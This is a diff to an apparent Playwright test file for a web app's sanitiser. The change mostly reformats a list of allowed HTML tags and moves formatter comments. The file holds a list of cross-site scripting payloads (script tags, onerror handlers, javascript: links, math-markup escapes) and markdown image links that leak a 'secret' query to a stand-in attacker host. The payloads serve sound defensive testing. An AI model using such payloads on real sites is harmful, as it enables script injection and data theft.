@@ -16,6 +16,7 @@ from prefloop.web.views.formulas import ELEMENTS
 pytestmark = pytest.mark.slow
 
 EVIL = "http://127.0.0.1:9"
+# fmt: skip
 PAYLOADS = [
     f"<script>alert(1)</script><script src={EVIL}/x.js></script>",
     f"<img src=x onerror=alert(2)><img src={EVIL}/p.png>![x]({EVIL}/leak?q=secret)![y][r]\n\n[r]: {EVIL}/ref.png",
@@ -41,14 +42,41 @@ PAYLOADS = [
     r" $\text{<img src=x onerror=alert(15)>}$ $\text{&lt;script&gt;alert(16)&lt;/script&gt;}$"
     rf" $\href{{javascript:alert(17)}}{{x}}$ $\style{{background:url({EVIL}/f)}}{{x}}$ $x_1$"
     r" $$</annotation></semantics></math><script>alert(18)</script>$$ $\unicode{x3c}img src=x onerror=alert(19)>$",
-]  # fmt: skip
+]
 PRESENT = (
     "() => [...document.querySelectorAll('.untrusted')].flatMap(e => [...e.querySelectorAll('*')].map(n => n.tagName))"
 )
+# fmt: skip
 ALLOWED = {
-    "P", "BR", "EM", "STRONG", "CODE", "PRE", "UL", "OL", "LI", "BLOCKQUOTE", "H1", "H2", "H3", "H4", "H5", "H6",
-    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "SUP", "SUB", "HR", "SPAN", *ELEMENTS,
-}  # fmt: skip
+    "P",
+    "BR",
+    "EM",
+    "STRONG",
+    "CODE",
+    "PRE",
+    "UL",
+    "OL",
+    "LI",
+    "BLOCKQUOTE",
+    "H1",
+    "H2",
+    "H3",
+    "H4",
+    "H5",
+    "H6",
+    "TABLE",
+    "THEAD",
+    "TBODY",
+    "TR",
+    "TH",
+    "TD",
+    "A",
+    "SUP",
+    "SUB",
+    "HR",
+    "SPAN",
+    *ELEMENTS,
+}
 
 
 def hostile_items() -> list[Item]:
@@ -123,7 +151,7 @@ def test_a_link_asks_before_it_leaves(make_site: Any, shot: Any) -> None:
     page.wait_for_selector("dialog.leave[open]")
     shot(page, "leave")
     assert "https://bank.example/login?x=1" in page.inner_text("dialog.leave")
-    press(page, "Enter")  # the safe choice has the focus
+    press(page, "Enter")  # The safe choice has the focus.
     page.wait_for_selector("dialog.leave", state="detached")
     link = page.locator(".card a")
     assert link.get_attribute("rel") == "noopener noreferrer nofollow"
